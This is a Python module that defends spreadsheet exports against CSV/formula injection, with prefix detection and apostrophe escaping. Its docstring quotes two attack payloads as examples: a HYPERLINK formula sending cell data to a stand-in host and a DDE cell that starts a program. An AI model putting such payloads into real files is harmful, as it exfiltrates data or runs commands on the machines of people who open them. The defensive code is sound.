"""Text that spreadsheets must not run: the one rule against CSV/formula injection.

Excel, WPS and LibreOffice treat a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and,
after a tab or a carriage return, whatever follows) as a formula. A unit named
``=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`` in a file the product writes would become a
live link carrying the neighbouring cells to another site when an office opens the export; a
``@SUM(1+1)*cmd|' /C calc'!A0`` cell asks the spreadsheet to start a program (OWASP: CSV Injection).
Every text cell of user data written to an .xlsx or .csv file goes through `escape_formula`, and
what people type into names and codes is refused when `looks_like_formula` (core.validators).
"""

# The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text):
    """Would a spreadsheet read `text` as a formula? True when it starts with one of FORMULA_PREFIXES."""
    return isinstance(text, str) and text.startswith(FORMULA_PREFIXES)


def escape_formula(value):
    """`value` made inert for a spreadsheet cell: text that looks like a formula gets a leading
    apostrophe, so that it is written, shown and re-read as the text it is (CSV/formula injection);
    anything else is returned unchanged."""
    if looks_like_formula(value):
        return "'" + value
    return value
